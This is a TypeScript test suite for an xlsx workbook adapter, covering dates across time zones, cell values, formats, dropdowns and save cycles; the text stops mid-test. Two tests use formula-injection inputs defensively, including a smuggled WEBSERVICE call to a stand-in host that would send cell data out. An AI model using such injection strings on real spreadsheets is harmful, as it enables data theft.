/**
 * What is particular to the xlsx adapter: exceljs's UTC dates, rich text, links, formulas and errors
 * read as Sheets' getValues() would give them, formats and dropdowns that survive a save, and a
 * user's own columns, formulas and tabs kept through a read–update–save cycle. The port's shared
 * behaviour is covered by the contract suite in tests/contract.
 */
import {
  chmod,
  lstat,
  mkdtemp,
  mkdir,
  readdir,
  readFile,
  readlink,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { readGrids } from '../../../src/app/network';
import { readTable, updateRecords } from '../../../src/app/repository';
import { decodeNetwork, decodeTabs, NETWORK_TABLES } from '../../../src/domain/network';
import { dayOfDate, timestampOfDate } from '../../../src/domain/dates';
import { DecisionsTable, LogTable, MeetingsTable, MembersTable } from '../../../src/domain/tables';
import { decodeTable, TableDecoder } from '../../../src/domain/codec';
import { currentLanguage, useLanguage } from '../../../src/domain/i18n';
import { readTabsOnce, WorkbookFileError, XlsxWorkbook } from '../../../src/node/xlsx/workbook';
import { useSheetWorker } from '../../../src/node/xlsx/sheet-thread';
import { builtSheetWorker } from '../../support/cli-build';
import type { Cell } from '../../../src/ports';
import { appendCells, example, EXAMPLE, PART, partText, replaceCell, withParts } from './parts';

let dir: string;
const originalTz = process.env.TZ;

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'unmn-xlsx-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});
afterEach(() => {
  process.env.TZ = originalTz;
});

const file = (name: string) => path.join(dir, name);

async function exceljsFile(name: string, fill: (book: ExcelJS.Workbook) => void): Promise<string> {
  const book = new ExcelJS.Workbook();
  fill(book);
  await book.xlsx.writeFile(file(name));
  return file(name);
}

async function reopen(workbook: XlsxWorkbook, name: string): Promise<XlsxWorkbook> {
  await workbook.save(file(name));
  return XlsxWorkbook.open(file(name));
}

/** The file opened with a change that only exceljs saves (a colour), so that the save goes through exceljs's reader and writer. */
async function throughExcelJs(name: string): Promise<XlsxWorkbook> {
  const workbook = await XlsxWorkbook.open(name);
  const [first = ''] = workbook.tabNames();
  workbook.paint(first, 1, 1, [[null]]);
  return workbook;
}

// exceljs's typings omit Worksheet.dataValidations, which its reader fills one cell address at a time.
function validationAt(sheet: ExcelJS.Worksheet | undefined, address: string): ExcelJS.DataValidation | undefined {
  return (
    sheet as unknown as { dataValidations: { find(a: string): ExcelJS.DataValidation | undefined } }
  ).dataValidations.find(address);
}

function patternOf(cell: ExcelJS.Cell | undefined): string | undefined {
  return (cell?.fill as { pattern?: string } | undefined)?.pattern;
}

async function rawBook(name: string): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(file(name));
  return book;
}

// Zones on both sides of UTC, where a UTC date read as local would show the day before or after.
describe.each(['America/Los_Angeles', 'Asia/Tashkent', 'Pacific/Auckland'])('dates in %s', (zone) => {
  it('reads the calendar day a date cell shows, as a local-midnight Date', async () => {
    process.env.TZ = zone;
    expect(new Date(2026, 0, 1).getTimezoneOffset()).not.toBe(0);
    const name = await exceljsFile(`dates-${zone.replace('/', '-')}.xlsx`, (book) => {
      const sheet = book.addWorksheet('Meetings');
      sheet.addRow(['ID', 'Date']);
      // exceljs, like Excel, stores the day as if it were UTC midnight.
      sheet.addRow(['M-2025-01', new Date(Date.UTC(2025, 0, 22))]);
      sheet.getCell('B2').numFmt = 'yyyy-mm-dd';
    });
    const grid = (await XlsxWorkbook.open(name)).read('Meetings');
    const cell = grid?.[1]?.[1];
    expect(cell).toBeInstanceOf(Date);
    expect(dayOfDate(cell as Date)).toBe('2025-01-22');
    expect((cell as Date).getHours()).toBe(0);
  });

  it('writes a local date so that the file shows the same day, and reads it back unchanged', async () => {
    process.env.TZ = zone;
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Log');
    const stamp = new Date(2026, 10, 20, 16, 45, 10);
    workbook.write('Log', 1, 1, [
      ['Day', 'Timestamp'],
      [new Date(2026, 10, 23), stamp],
    ]);
    const name = `write-${zone.replace('/', '-')}.xlsx`;
    const back = await reopen(workbook, name);
    const row = back.read('Log')?.[1] ?? [];
    expect(dayOfDate(row[0] as Date)).toBe('2026-11-23');
    expect(timestampOfDate(row[1] as Date)).toBe('2026-11-20T16:45:10');
    const raw = (await rawBook(name)).getWorksheet('Log');
    expect((raw?.getCell('A2').value as Date).toISOString()).toBe('2026-11-23T00:00:00.000Z');
    expect(raw?.getCell('A2').numFmt).toBe('yyyy-mm-dd');
    expect(raw?.getCell('B2').numFmt).toBe('yyyy-mm-dd hh:mm:ss');
  });
});

describe('reading cells as plain values', () => {
  it('gives rich text and links as their text, formulas as their results, errors as their text, merged cells as blank', async () => {
    const name = await exceljsFile('plain.xlsx', (book) => {
      const sheet = book.addWorksheet('Members');
      sheet.addRow(['Agency', 'Name', 'Count', 'Joined on', 'Broken', 'Shared', 'Pending', 'Merged']);
      sheet.getCell('A2').value = { richText: [{ text: 'UN' }, { font: { bold: true }, text: 'DP' }] };
      sheet.getCell('B2').value = { text: 'United Nations Development Programme', hyperlink: 'https://www.undp.org' };
      sheet.getCell('C2').value = { formula: '1+1', result: 2 };
      sheet.getCell('D2').value = { formula: 'DATE(2025,1,22)', result: new Date(Date.UTC(2025, 0, 22)) };
      sheet.getCell('D2').numFmt = 'yyyy-mm-dd';
      sheet.getCell('E2').value = { error: '#N/A' };
      sheet.getCell('F2').value = { formula: '"IOM"&""', result: 'IOM' };
      sheet.getCell('G2').value = { formula: 'NOW()' };
      sheet.getCell('H2').value = 'kept';
      sheet.mergeCells('H2:I2');
      sheet.getCell('C3').value = { formula: '1/0', result: { error: '#DIV/0!' } };
      sheet.getCell('A3').value = {
        text: { richText: [{ text: 'IOM' }] },
        hyperlink: 'https://www.iom.int',
      } as unknown as ExcelJS.CellValue;
    });
    const grid = (await XlsxWorkbook.open(name)).read('Members') ?? [];
    const [row2, row3] = [grid[1] ?? [], grid[2] ?? []];
    expect(row2.slice(0, 3)).toEqual(['UNDP', 'United Nations Development Programme', 2]);
    expect(dayOfDate(row2[3] as Date)).toBe('2025-01-22');
    expect(row2.slice(4)).toEqual(['#N/A', 'IOM', '', 'kept']);
    expect(row3).toEqual(['IOM', '', '#DIV/0!', '', '', '', '', '']);
  });

  it('returns a rectangle without trailing blank rows or columns, and [] for an empty tab', async () => {
    const name = await exceljsFile('rect.xlsx', (book) => {
      const sheet = book.addWorksheet('Actions');
      sheet.addRow(['ID', 'Action']);
      sheet.addRow(['A-2026-001', 'Draft', 'a note']);
      sheet.getCell('A8').value = '';
      sheet.getCell('A9').fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFF0000' } };
      sheet.getCell('F12').numFmt = 'yyyy-mm-dd';
      book.addWorksheet('Empty');
    });
    const workbook = await XlsxWorkbook.open(name);
    expect(workbook.read('Actions')).toEqual([
      ['ID', 'Action', ''],
      ['A-2026-001', 'Draft', 'a note'],
    ]);
    expect(workbook.read('Empty')).toEqual([]);
    expect(workbook.read('Nowhere')).toBeNull();
  });
});

// In this thread, and with a worker beside it reading every sheet that sheetsBeside does not keep here.
describe.each(['here', 'beside'] as const)('reading a file once, for a command that only reads it (%s)', (where) => {
  beforeAll(async () => {
    if (where === 'beside') useSheetWorker(await builtSheetWorker(), 0);
  });
  afterAll(() => useSheetWorker(null));

  it('hands over each tab as read() gives it, once, and the network decoded tab by tab is the one the port gives', async () => {
    const workbook = await XlsxWorkbook.open(EXAMPLE);
    const once = await readTabsOnce(EXAMPLE);
    expect(once.names).toEqual(workbook.tabNames());
    expect(await once.grid('Members')).toEqual(workbook.read('Members'));
    await expect(once.grid('Members')).rejects.toThrow(/read already/);
    await expect(once.rows('Members', () => new TableDecoder(MembersTable))).rejects.toThrow(/read already/);
    expect(await once.grid('Nowhere')).toBeNull();
    expect(await once.rows('Elsewhere', () => new TableDecoder(MeetingsTable))).toBeNull();
    const asked: string[] = [];
    const again = await readTabsOnce(EXAMPLE);
    const network = await decodeTabs({
      grid(tab) {
        asked.push(tab);
        return again.grid(tab);
      },
      rows(tab, into) {
        asked.push(tab);
        return again.rows(tab, into);
      },
    });
    expect(network).toEqual(decodeNetwork(readGrids(workbook)));
    expect(asked).toEqual(NETWORK_TABLES.map((table) => table.name));
  });

  it("gives a tab's rows as it reads them, and a tab whose rows are out of order or merged once more from its grid", async () => {
    const swapped = file('meetings-out-of-order.xlsx');
    await writeFile(
      swapped,
      await withParts(await example(), {
        [PART.Meetings]: (xml) => {
          const rows = [...xml.matchAll(/<row [^>]*>.*?<\/row>/gs)].map((m) => m[0]);
          const [second, third] = [rows[1] ?? '', rows[2] ?? ''];
          return xml.replace(second + third, third + second);
        },
      }),
    );
    const merged = file('decisions-merged.xlsx');
    await writeFile(
      merged,
      await withParts(await example(), {
        [PART.Decisions]: (xml) =>
          xml.replace('</sheetData>', '</sheetData><mergeCells count="1"><mergeCell ref="B2:C2"/></mergeCells>'),
      }),
    );
    for (const [name, tab, def] of [
      [EXAMPLE, 'Meetings', MeetingsTable],
      [swapped, 'Meetings', MeetingsTable],
      [merged, 'Decisions', DecisionsTable],
    ] as const) {
      const grid = (await XlsxWorkbook.open(name)).read(tab);
      let begun = 0;
      const once = await readTabsOnce(name);
      const table = await once.rows(tab, () => {
        begun++;
        return new TableDecoder(def);
      });
      expect(table).toEqual(decodeTable(def, grid));
      expect(begun).toBe(name === EXAMPLE ? 1 : 2);
    }
  });

  it('throws a fault of what the rows are given to as it is, never as a damaged file', async () => {
    const fault = new Error('a decoder that fails');
    const once = await readTabsOnce(EXAMPLE);
    const failing = () => ({
      row() {
        throw fault;
      },
      end: () => null,
    });
    await expect(once.rows('Meetings', failing)).rejects.toBe(fault);
  });

  it('refuses a file as open() refuses it', async () => {
    await expect(readTabsOnce(path.join(dir, 'nothing.xlsx'))).rejects.toThrow(WorkbookFileError);
  });

  it('reads a tab only when it is taken, and the rest then, refused as open() refuses them', async () => {
    const file = path.join(dir, 'log-damaged.xlsx');
    const damaged = await withParts(await example(), {
      [PART.Log]: (xml) => xml.replace('</sheetData>', '<row r="99999"><c r="A99999"><v>1</c></row></sheetData>'),
    });
    await writeFile(file, damaged);
    await expect(XlsxWorkbook.open(file)).rejects.toThrow(/damaged/);
    const once = await readTabsOnce(file);
    expect((await once.grid('Members'))?.length).toBeGreaterThan(1);
    await expect(once.rest()).rejects.toThrow(WorkbookFileError);
    const again = await readTabsOnce(file);
    await expect(again.rows('Log', () => new TableDecoder(LogTable))).rejects.toThrow(WorkbookFileError);
    await expect(again.grid('Log')).rejects.toThrow(/read already/);
  });

  it('words a refusal in the language it started in, whatever the Settings tab it read says', async () => {
    const file = path.join(dir, 'russian-log-damaged.xlsx');
    const workbook = await XlsxWorkbook.open(EXAMPLE);
    const settings = workbook.read('Settings') ?? [];
    const row = settings.findIndex((r) => r[0] === 'Language');
    workbook.write('Settings', row < 0 ? settings.length + 1 : row + 1, 1, [['Language', 'Russian']]);
    await workbook.save(file);
    const russian = await withParts(await readFile(file), {
      [PART.Log]: (xml) => xml.replace('</sheetData>', '<row r="99999"><c r="A99999"><v>1</c></row></sheetData>'),
    });
    await writeFile(file, russian);
    const opened = await XlsxWorkbook.open(file).catch((error: unknown) => error);
    const before = currentLanguage();
    try {
      const once = await readTabsOnce(file);
      const refusal = await decodeTabs(once).catch((error: unknown) => error);
      expect(currentLanguage()).toBe('ru');
      expect(refusal).toBeInstanceOf(WorkbookFileError);
      expect((refusal as Error).message).toBe((opened as Error).message);
    } finally {
      useLanguage(before);
    }
  });
});

describe('writing', () => {
  it('reads a blank where a line written had a hole, and a read after each change sees it', () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Holes');
    const line: Cell[] = [];
    line[1] = 'b';
    workbook.write('Holes', 1, 1, [line]);
    const read = workbook.read('Holes')!;
    expect(read).toEqual([['', 'b']]);
    expect(0 in read[0]!).toBe(true);
    workbook.write('Holes', 3, 2, [['c', 'd']]);
    expect(workbook.read('Holes')).toEqual([
      ['', 'b', ''],
      ['', '', ''],
      ['', 'c', 'd'],
    ]);
    workbook.clearFrom('Holes', 2);
    expect(workbook.read('Holes')).toEqual([['', 'b']]);
  });

  it('stores text that looks like a formula as text', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Decisions');
    workbook.write('Decisions', 1, 1, [['=HYPERLINK("http://evil")', '+1', '-x', '@me']]);
    await workbook.save(file('text.xlsx'));
    const raw = (await rawBook('text.xlsx')).getWorksheet('Decisions');
    for (const address of ['A1', 'B1', 'C1', 'D1']) expect(raw?.getCell(address).type).toBe(ExcelJS.ValueType.String);
    expect(raw?.getCell('A1').value).toBe('=HYPERLINK("http://evil")');
  });

  it('writes blanks for values a cell cannot hold, and refuses ragged rectangles', () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Workplan');
    workbook.write('Workplan', 1, 1, [[Number.NaN, Number.POSITIVE_INFINITY, new Date(Number.NaN), 'x']]);
    expect(workbook.read('Workplan')).toEqual([['', '', '', 'x']]);
    expect(() => workbook.write('Workplan', 1, 1, [['a'], ['b', 'c']])).toThrow(
      /row 2 of the block has 2 cells where the first has 1/,
    );
    expect(() => workbook.write('Workplan', 1, 1, [])).toThrow(/no rows or no columns/);
    expect(() => workbook.write('Nowhere', 1, 1, [['a']])).toThrow(/Nowhere/);
  });

  it('writes links to rows of other tabs as HYPERLINK formulas that read back as their text', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Compliance');
    workbook.write('Compliance', 1, 1, [['Ref', 'Finding']]);
    workbook.writeLinks('Compliance', 2, 1, [
      [{ text: 'M-2026-03', sheet: 'Meetings', row: 9 }, null],
      [{ text: "O'Brien", sheet: 'Working groups', row: 3 }, null],
    ]);
    const back = await reopen(workbook, 'links.xlsx');
    expect(back.read('Compliance')).toEqual([
      ['Ref', 'Finding'],
      ['M-2026-03', ''],
      ["O'Brien", ''],
    ]);
    const raw = (await rawBook('links.xlsx')).getWorksheet('Compliance');
    expect(raw?.getCell('A2').value).toEqual({
      formula: `HYPERLINK("#'Meetings'!A9","M-2026-03")`,
      result: 'M-2026-03',
    });
    expect(raw?.getCell('A3').value).toEqual({
      formula: `HYPERLINK("#'Working groups'!A3","O'Brien")`,
      result: "O'Brien",
    });
    expect(raw?.getCell('A2').font).toMatchObject({ name: 'Calibri', underline: true, color: { argb: 'FF1155CC' } });
  });

  it('keeps quotes and long text inside the formula’s text, never as formula code', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Compliance');
    const sly = '9"),WEBSERVICE("http://evil.example/?"&A1&"';
    const long = `${'é'.repeat(300)}"${'x'.repeat(300)}`;
    workbook.writeLinks('Compliance', 1, 1, [
      [
        { text: sly, sheet: 'Say "hi"', row: 2 },
        { text: long, sheet: 'Log', row: 7 },
      ],
    ]);
    await workbook.save(file('sly.xlsx'));
    const raw = (await rawBook('sly.xlsx')).getWorksheet('Compliance');
    const a1 = raw?.getCell('A1').value as ExcelJS.CellFormulaValue;
    expect(a1.formula).toBe(`HYPERLINK("#'Say ""hi""'!A2","9""),WEBSERVICE(""http://evil.example/?""&A1&""")`);
    const b1 = raw?.getCell('B1').value as ExcelJS.CellFormulaValue;
    // Excel takes at most 255 characters in one text literal: the text is joined from pieces.
    const pieces = [...b1.formula.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => (m[1] ?? '').replace(/""/g, '"'));
    expect(pieces.slice(1).every((p) => p.length <= 255)).toBe(true);
    expect(pieces.slice(1).join('')).toBe(long);
    expect((await XlsxWorkbook.open(file('sly.xlsx'))).read('Compliance')).toEqual([[sly, long]]);
  });

  it('paints solid fills and clears them', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Compliance');
    workbook.write('Compliance', 1, 1, [['Severity'], ['error'], ['info']]);
    workbook.paint('Compliance', 2, 1, [['#f4c7c3'], [null]]);
    await workbook.save(file('paint.xlsx'));
    const raw = (await rawBook('paint.xlsx')).getWorksheet('Compliance');
    expect(raw?.getCell('A2').fill).toMatchObject({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFF4C7C3' } });
    expect(patternOf(raw?.getCell('A3'))).not.toBe('solid');
    expect(() => workbook.paint('Compliance', 2, 1, [['red']])).toThrow(/not a colour/);
  });

  it('clears rows from a given row down, keeping the tab formats and dropdowns', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Compliance');
    workbook.format('Compliance', {
      columns: [{ column: 1, header: 'Severity', kind: 'choice', choices: ['error', 'warning', 'info'], width: 90 }],
    });
    workbook.write('Compliance', 1, 1, [
      ['Severity', 'Finding'],
      ['error', 'a'],
      ['info', 'b'],
    ]);
    workbook.paint('Compliance', 2, 1, [['#ff0000', '#ff0000']]);
    workbook.clearFrom('Compliance', 2);
    expect(workbook.read('Compliance')).toEqual([['Severity', 'Finding']]);
    await workbook.save(file('clear.xlsx'));
    const raw = (await rawBook('clear.xlsx')).getWorksheet('Compliance');
    expect(patternOf(raw?.getCell('A2'))).not.toBe('solid');
    expect(validationAt(raw, 'A2')).toMatchObject({ type: 'list' });
  });
});

describe('the look of a result tab', () => {
  it('saves number formats, bold blocks, widths and frozen rows, and clears the dropdowns and formats it had', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Report: Test');
    workbook.format('Report: Test', {
      columns: [{ column: 2, header: 'Status', kind: 'choice', choices: ['Open', 'Done'], width: 90 }],
    });
    workbook.write('Report: Test', 1, 1, [
      ['Title', '', ''],
      ['Agency', 'Budget', 'Due'],
      ['IOM', 1500, new Date(2026, 5, 30)],
    ]);
    workbook.paint('Report: Test', 3, 1, [['#ff0000', null, null]]);
    workbook.style('Report: Test', {
      frozenRows: 2,
      bold: [{ row: 2, column: 1, rows: 1, columns: 3 }],
      numberFormats: [
        { format: '#,##0', blocks: [{ row: 3, column: 2, rows: 1, columns: 1 }] },
        { format: 'yyyy-mm-dd', blocks: [{ row: 3, column: 3, rows: 1, columns: 1 }] },
      ],
      widths: [{ column: 1, width: 210 }],
    });
    await workbook.save(file('style.xlsx'));
    const raw = (await rawBook('style.xlsx')).getWorksheet('Report\ua789 Test')!;
    expect(raw.getCell('B3').numFmt).toBe('#,##0');
    expect(raw.getCell('C3').numFmt).toBe('yyyy-mm-dd');
    expect(raw.getCell('B2').font?.bold).toBe(true);
    expect(raw.getCell('A1').font?.bold).toBeFalsy();
    expect(patternOf(raw.getCell('A3'))).not.toBe('solid');
    expect(validationAt(raw, 'B3')).toBeUndefined();
    expect(raw.getColumn(1).width).toBe(30);
    expect(raw.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    expect((await XlsxWorkbook.open(file('style.xlsx'))).read('Report: Test')).toEqual(workbook.read('Report: Test'));
  });

  it('keeps a tab named as Sheets allows and Excel does not (`Report: NAME`) behind a look-alike colon', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Report: Member list');
    workbook.write('Report: Member list', 1, 1, [['Members']]);
    expect(() => workbook.addTab('Report: Member list')).toThrow(/already exists/);
    const again = await reopen(workbook, 'colon.xlsx');
    expect(again.tabNames()).toEqual(['Report: Member list']);
    expect(again.read('Report: Member list')).toEqual([['Members']]);
    expect((await rawBook('colon.xlsx')).worksheets.map((w) => w.name)).toEqual(['Report\ua789 Member list']);
  });
});

describe('tabs and formats', () => {
  it('adds tabs at a position and keeps that order in the saved file', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Members');
    workbook.addTab('Settings', 0);
    workbook.addTab('Notes');
    workbook.addTab('Meetings', 2);
    expect(workbook.tabNames()).toEqual(['Settings', 'Members', 'Meetings', 'Notes']);
    expect(() => workbook.addTab('Members')).toThrow(/already exists/);
    expect((await reopen(workbook, 'order.xlsx')).tabNames()).toEqual(['Settings', 'Members', 'Meetings', 'Notes']);
  });

  it('saves dropdowns, checkboxes, date formats, widths and a bold frozen header, once however often it runs', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Meetings');
    workbook.write('Meetings', 1, 1, [['ID', 'Kind', 'Date', 'Roles', 'Done']]);
    const layout = {
      columns: [
        { column: 2, header: 'Kind', kind: 'choice' as const, choices: ['Regular', 'Annual'], width: 140 },
        { column: 3, header: 'Date', kind: 'date' as const, choices: [], width: 110 },
        { column: 4, header: 'Roles', kind: 'choices' as const, choices: ['Chair', 'Member'], width: 160 },
        { column: 5, header: 'Done', kind: 'yesno' as const, choices: [], width: 90 },
      ],
    };
    workbook.format('Meetings', layout);
    const again = await reopen(workbook, 'format-1.xlsx');
    again.format('Meetings', layout);
    await again.save(file('format-2.xlsx'));
    const sheet = (await rawBook('format-2.xlsx')).getWorksheet('Meetings');
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet?.getCell('B1').font?.bold).toBe(true);
    expect(sheet?.getColumn(2).width).toBe(20);
    expect(sheet?.getColumn(3).numFmt).toBe('yyyy-mm-dd');
    expect(validationAt(sheet, 'B2')).toMatchObject({
      type: 'list',
      formulae: ['"Regular,Annual"'],
      showErrorMessage: true,
    });
    expect(validationAt(sheet, 'B1000')).toMatchObject({ type: 'list' });
    expect(validationAt(sheet, 'B1')).toBeUndefined();
    expect(validationAt(sheet, 'D2')).toMatchObject({ type: 'list', formulae: ['"Chair,Member"'] });
    expect(validationAt(sheet, 'D2')?.showErrorMessage).toBeFalsy();
    expect(validationAt(sheet, 'E2')).toMatchObject({ type: 'list', formulae: ['"TRUE,FALSE"'] });
    const xml = await zipEntry('format-2.xlsx', 'xl/worksheets/sheet1.xml');
    expect(xml.match(/<dataValidation /g)).toHaveLength(3);
    expect(xml).toContain('sqref="B2:B1000"');
  });

  it('names the header font and sets the page up to print one page wide, landscape, the header on every page', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Compliance');
    // Formatted before the header is written, as the compliance check does on a new tab.
    workbook.format('Compliance', {
      columns: [
        { column: 1, header: 'Severity', kind: 'text', choices: [], width: 90 },
        { column: 3, header: 'Sheet', kind: 'text', choices: [], width: 90 },
      ],
    });
    workbook.write('Compliance', 1, 1, [['Severity', 'Rule', 'Sheet', 'Mine']]);
    await workbook.save(file('page.xlsx'));
    const sheet = (await rawBook('page.xlsx')).getWorksheet('Compliance');
    for (const address of ['A1', 'B1', 'C1'])
      expect(sheet?.getCell(address).font).toMatchObject({ name: 'Calibri', family: 2, bold: true });
    expect(sheet?.getCell('D1').font?.bold).toBeFalsy();
    expect(sheet?.pageSetup).toMatchObject({
      orientation: 'landscape',
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: '1:1',
    });
  });

  it('keeps one rule per column range through open and save cycles that do not format', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Meetings');
    workbook.write('Meetings', 1, 1, [['ID', 'Kind', 'Done']]);
    workbook.format('Meetings', {
      columns: [
        { column: 2, header: 'Kind', kind: 'choice', choices: ['Regular', 'Annual'], width: 140 },
        { column: 3, header: 'Done', kind: 'yesno', choices: [], width: 90 },
      ],
    });
    let name = 'cycle-0.xlsx';
    await workbook.save(file(name));
    for (const next of ['cycle-1.xlsx', 'cycle-2.xlsx']) {
      await (await throughExcelJs(file(name))).save(file(next));
      name = next;
    }
    const xml = await zipEntry(name, 'xl/worksheets/sheet1.xml');
    expect(xml.match(/<dataValidation [^>]*sqref="[^"]*"/g)?.map((v) => /sqref="([^"]*)"/.exec(v)?.[1])).toEqual([
      'B2:B1000',
      'C2:C1000',
    ]);
  });

  it('keeps a rule that covers part of a column, or single cells, as it was', async () => {
    const name = await exceljsFile('partial.xlsx', (book) => {
      const sheet = book.addWorksheet('Members');
      sheet.addRow(['Agency', 'Status']);
      const rule: ExcelJS.DataValidation = { type: 'list', formulae: ['"Active,Inactive"'], allowBlank: true };
      for (const address of ['B2', 'B3', 'B4', 'B9']) sheet.getCell(address).dataValidation = rule;
      sheet.getCell('B5').dataValidation = { type: 'list', formulae: ['"Other"'], allowBlank: true };
    });
    await (await throughExcelJs(name)).save(file('partial-after.xlsx'));
    const xml = await zipEntry('partial-after.xlsx', 'xl/worksheets/sheet1.xml');
    expect([...xml.matchAll(/sqref="([^"]*)"/g)].map((m) => m[1]).sort()).toEqual(['B2:B4', 'B5', 'B9']);
  });

  it('keeps fit-to-page of a tab LibreOffice saved (it writes fitToPage="true", which exceljs reads as false)', async () => {
    const workbook = XlsxWorkbook.create();
    workbook.addTab('Log');
    workbook.write('Log', 1, 1, [['Timestamp']]);
    workbook.format('Log', { columns: [] });
    await workbook.save(file('fit.xlsx'));
    const zip = await JSZip.loadAsync(await readFile(file('fit.xlsx')));
    const xml = (await zip.file('xl/worksheets/sheet1.xml')?.async('string')) ?? '';
    expect(xml).toContain('<pageSetUpPr fitToPage="1"/>');
    zip.file('xl/worksheets/sheet1.xml', xml.replace('fitToPage="1"', 'fitToPage="true"'));
    await writeFile(file('fit-lo.xlsx'), await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }));
    await (await throughExcelJs(file('fit-lo.xlsx'))).save(file('fit-after.xlsx'));
    expect(await zipEntry('fit-after.xlsx', 'xl/worksheets/sheet1.xml')).toContain('<pageSetUpPr fitToPage="1"/>');
  });
});

describe('formatting a user’s tab', () => {
  it('keeps the columns the user froze and the header’s own font', async () => {
    const name = await exceljsFile('frozen.xlsx', (book) => {
      const sheet = book.addWorksheet('Members', { views: [{ state: 'frozen', xSplit: 1, ySplit: 0 }] });
      sheet.addRow(['Agency', 'Status']);
      sheet.getCell('B1').font = { color: { argb: 'FF0000FF' } };
    });
    const workbook = await XlsxWorkbook.open(name);
    workbook.format('Members', {
      columns: [{ column: 2, header: 'Status', kind: 'choice', choices: ['Active'], width: 140 }],
    });
    await workbook.save(file('frozen-after.xlsx'));
    const sheet = (await rawBook('frozen-after.xlsx')).getWorksheet('Members');
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 1 });
    expect(sheet?.getCell('B1').font).toMatchObject({ bold: true, color: { argb: 'FF0000FF' } });
  });
});

/** One file of the saved zip (the central directory has the sizes; exceljs streams its entries). */
async function zipEntry(name: string, entry: string): Promise<string> {
  const zip = await readFile(file(name));
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let at = zip.readUInt32LE(end + 16);
  while (zip.readUInt32LE(at) === 0x02014b50) {
    const [method, size] = [zip.readUInt16LE(at + 10), zip.readUInt32LE(at + 20)];
    const [nameLength, extraLength, commentLength] = [
      zip.readUInt16LE(at + 28),
      zip.readUInt16LE(at + 30),
      zip.readUInt16LE(at + 32),
    ];
    const local = zip.readUInt32LE(at + 42);
    if (zip.toString('utf8', at + 46, at + 46 + nameLength) === entry) {
      const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
      const data = zip.subarray(start, start + size);
      return (method === 8 ? inflateRawSync(data) : data).toString('utf8');
    }
    at += 46 + nameLength + extraLength + commentLength;
  }
  throw new Error(`${entry} not in ${name}`);
}

describe('a user’s workbook through a read–update–save cycle', () => {
  it('keeps reordered headers, extra columns, their formulas and other tabs', async () => {
    const name = await exceljsFile('user.xlsx', (book) => {
      const meetings = book.addWorksheet('Meetings');
      meetings.addRow(['Status', 'My notes', 'ID', 'Date', 'Kind', 'Days since']);
      meetings.addRow(['Planned', 'bring the projector', 'M-2026-06', new Date(Date.UTC(2026, 10, 18)), 'Regular']);
      meetings.getCell('D2').numFmt = 'yyyy-mm-dd';
      meetings.getCell('F2').value = { formula: 'TODAY()-D2', result: 5 };
      const mine = book.addWorksheet('My pivot');
      mine.getCell('A1').value = 'hand-made';
      mine.getCell('B2').value = { formula: 'SUM(1,2)', result: 3 };
    });
    const workbook = await XlsxWorkbook.open(name);
    const grid = workbook.read('Meetings') ?? [];
    const table = readTable(workbook, MeetingsTable);
    const record = table.records[0];
    expect(record?.date).toBe('2026-11-18');
    expect(record && updateRecords(workbook, MeetingsTable, table, grid, [{ ...record, status: 'Held' }])).toEqual({
      unknown: [],
      skipped: [],
    });
    await workbook.save(file('user-after.xlsx'));
    const raw = await rawBook('user-after.xlsx');
    expect(raw.worksheets.map((s) => s.name)).toEqual(['Meetings', 'My pivot']);
    const meetings = raw.getWorksheet('Meetings');
    expect(meetings?.getRow(1).values).toEqual([undefined, 'Status', 'My notes', 'ID', 'Date', 'Kind', 'Days since']);
    expect(meetings?.getCell('A2').value).toBe('Held');
    expect(meetings?.getCell('B2').value).toBe('bring the projector');
    expect(meetings?.getCell('F2').value).toEqual({ formula: 'TODAY()-D2', result: 5 });
    expect(raw.getWorksheet('My pivot')?.getCell('B2').value).toEqual({ formula: 'SUM(1,2)', result: 3 });
    const back = readTable(await XlsxWorkbook.open(file('user-after.xlsx')), MeetingsTable);
    expect(back.records[0]).toMatchObject({ id: 'M-2026-06', status: 'Held', date: '2026-11-18' });
  });
});

describe('text a file cannot hold', () => {
  it('is removed from what is written, on both ways of saving, and counted once', async () => {
    for (const throughExcelJs of [false, true]) {
      const workbook = await XlsxWorkbook.open(EXAMPLE);
      workbook.write('Members', 2, 8, [['a\uFFFEb\uFFFF\u0001c\uD800d\uDC00e 😀']]);
      workbook.writeLinks('Members', 3, 8, [[{ text: 'see\uFFFE', sheet: 'Log', row: 2 }]]);
      if (throughExcelJs) workbook.paint('Members', 1, 1, [[null]]);
      expect(workbook.read('Members')?.[1]?.[7]).toBe('abcde 😀');
      expect(workbook.removedCharacters()).toBe(6);
      expect(workbook.removedCharacters()).toBe(0);
      await workbook.save(file('unwritable.xlsx'));
      const back = (await XlsxWorkbook.open(file('unwritable.xlsx'))).read('Members');
